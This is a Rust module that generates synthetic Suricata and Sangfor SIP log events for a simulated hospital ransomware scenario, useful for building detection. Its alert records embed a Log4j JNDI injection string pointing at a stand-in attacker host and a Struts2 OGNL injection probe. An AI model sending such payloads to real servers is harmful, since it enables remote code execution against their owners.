//! Suricata EVE JSON and Sangfor SIP (JSON behind `|!` separators).

use crate::moment::Moment;
use crate::story::Step;
use serde_json::{Value, json};

/// A flow, name lookup or web access that Suricata saw.
pub(super) fn suricata(m: &mut Moment<'_>) -> String {
    let (src, port) = (m.desk(), m.client_port());
    let flow_id = 1_893_320_181_000_000 + m.serial();
    let base = |m: &Moment<'_>, kind: &str, dst: String, dst_port: u32, proto: &str| {
        json!({
            "timestamp": m.iso_micros(), "flow_id": flow_id, "in_iface": "ens1f0", "event_type": kind, "src_ip": src,
            "src_port": port, "dest_ip": dst, "dest_port": dst_port, "proto": proto,
        })
    };
    let event = match m.below(5) {
        0 => {
            let name = m.word(&["yuyue.example.org", "his.example.org", "update.example.net", "ntp.example.net"]);
            with(
                base(m, "dns", m.server(1, 53), 53, "UDP"),
                "dns",
                json!({
                    "type": "query", "id": m.below(65_536), "rrname": name, "rrtype": "A", "tx_id": 0,
                }),
            )
        }
        1 => {
            let visit = 1 + m.below(9_000);
            with(
                base(m, "http", m.server(1, 30), 8080, "TCP"),
                "http",
                json!({
                    "hostname": "emr.example.org", "url": format!("/emr/view?visit={visit}"),
                    "http_user_agent": "Mozilla/5.0", "http_method": "GET", "protocol": "HTTP/1.1", "status": 200,
                    "length": 2_000 + m.below(30_000),
                }),
            )
        }
        _ => {
            let (dst, out, back) = (m.outside(), 500 + m.below(4_000), 900 + m.below(60_000));
            let mut event = with(
                base(m, "flow", dst, 443, "TCP"),
                "flow",
                json!({
                    "pkts_toserver": out / 300 + 2, "pkts_toclient": back / 900 + 2, "bytes_toserver": out,
                    "bytes_toclient": back, "age": 30, "state": "closed", "reason": "timeout", "alerted": false,
                }),
            );
            event = with(event, "app_proto", json!("tls"));
            event
        }
    };
    event.to_string()
}

fn with(mut event: Value, key: &str, value: Value) -> Value {
    if let Some(object) = event.as_object_mut() {
        object.insert(key.to_owned(), value);
    }
    event
}

/// An alert of Suricata.
pub(super) fn suricata_alarm(m: &mut Moment<'_>, step: Step) -> Option<String> {
    let port = m.client_port();
    let flow_id = 2_093_320_181_000_000 + m.serial();
    let event = match step {
        Step::Jndi => json!({
            "timestamp": m.iso_micros(), "flow_id": flow_id, "in_iface": "ens1f0", "event_type": "alert",
            "src_ip": "203.0.113.66", "src_port": port, "dest_ip": m.server(1, 30), "dest_port": 8080, "proto": "TCP",
            "alert": {
                "action": "allowed", "gid": 1, "signature_id": 9_000_001, "rev": 3,
                "signature": "LOCAL Log4j JNDI lookup in HTTP URI",
                "category": "Attempted Administrator Privilege Gain", "severity": 1,
                "metadata": { "confidence": ["High"], "mitre_technique_id": ["T1190"], "signature_severity": ["Major"] },
            },
            "http": {
                "hostname": "yuyue.example.org", "url": "/login?x=${jndi:ldap://203.0.113.66/a}",
                "http_user_agent": "curl/7.88", "http_method": "GET", "protocol": "HTTP/1.1", "status": 404, "length": 0,
            },
            "app_proto": "http", "direction": "to_server",
        }),
        Step::RansomNote => {
            let folder = m.word(&["PACS", "检验报告", "病案扫描", "医保结算"]);
            let file = format!("{folder}\\README_RECOVER.txt");
            json!({
                "timestamp": m.iso_micros(), "flow_id": flow_id, "event_type": "alert", "src_ip": m.server(1, 30),
                "src_port": port, "dest_ip": m.server(1, 40), "dest_port": 445, "proto": "TCP",
                "alert": {
                    "action": "allowed", "gid": 1, "signature_id": 9_000_002, "rev": 1,
                    "signature": "LOCAL Ransom note README_RECOVER written over SMB",
                    "category": "A Network Trojan was detected", "severity": 1,
                },
                "smb": { "command": "SMB2_COMMAND_CREATE", "filename": file },
                "app_proto": "smb",
            })
        }
        _ => return None,
    };
    Some(event.to_string())
}

fn framed(m: &Moment<'_>, kind: &str, body: &Value) -> String {
    format!("<14>{}|!{kind}|!{}|!{body}", m.plain(), m.server(9, 7))
}

fn event_id(m: &Moment<'_>) -> String {
    format!("sip-{}-{}", m.day().replace('-', ""), m.serial())
}

/// What the SIP reports on a quiet day: scans by scanners, weak passwords.
pub(super) fn sip(m: &mut Moment<'_>) -> String {
    let host = m.word(&["10.12.21.14", "10.12.24.30", "10.12.27.61"]);
    if m.below(3) == 0 {
        let body = json!({
            "event_level": 2, "event_time": m.plain(), "event_id": event_id(m), "ip": m.server(1, 41),
            "dst_ip": m.server(1, 41), "dst_port": 3306, "service": "mysql", "username": "report",
            "password": "******", "event_desc": "数据库弱口令",
        });
        return framed(m, "weakpwd", &body);
    }
    let desc = m.word(&["主机对内网发起SSH扫描", "主机访问新域名", "主机存在明文协议登录"]);
    let body = json!({
        "event_type_sub": "E02-2", "event_level": 1, "event_type": "E02", "event_time": m.plain(),
        "event_id": event_id(m), "ip": host, "event_desc": desc, "behaviour_type": 4, "dev_name": "SIP-01",
        "reliability": 2, "stage": "内网探测", "event_count": 1 + m.below(40),
    });
    framed(m, "secevent", &body)
}

/// A security event of the SIP. It does not say whether a beacon was blocked: it only listens.
pub(super) fn sip_alarm(m: &mut Moment<'_>, step: Step) -> Option<String> {
    match step {
        Step::Beacon => {
            let body = json!({
                "event_type_sub": "E05-1", "event_level": 3, "event_type": "E05", "event_time": m.plain(),
                "event_id": event_id(m), "src_ip": "10.30.5.12", "src_port": m.client_port(),
                "dst_ip": "203.0.113.200", "dst_port": 443, "proto": "TCP", "branch_name": "影像科",
                "hostname": "CT-WS-02", "event_name": "主机与勒索软件控制端通信",
                "event_desc": "主机 10.30.5.12 与已知勒索软件 C2 通信", "rule_id": "110305",
                "rule_name": "ransom_c2_tls", "reliability": 3, "stage": "C&C通信", "attack_state": "失陷",
                "direction": "内网对外网", "event_count": 12, "attck_id": "T1071.001", "domain": "c2.example.com",
            });
            Some(framed(m, "secevent", &body))
        }
        Step::Exploit => {
            let body = json!({
                "event_level": "高", "event_type": "A11", "event_type_name": "漏洞利用", "event_time": m.at.as_secs(),
                "event_id": event_id(m), "src_ip": "203.0.113.66", "src_port": m.client_port(),
                "dst_ip": m.server(1, 30), "dst_port": 8080, "event_desc": "Struts2 远程代码执行尝试",
                "rule_id": "20170305", "attack_state": "企图", "direction": "外网对内网", "action": "拒绝",
                "hit_num": "3", "url": "/index.action?redirect=%{1+1}", "payload": "redirect:%{1+1}",
            });
            Some(framed(m, "secalert", &body))
        }
        _ => None,
    }
}
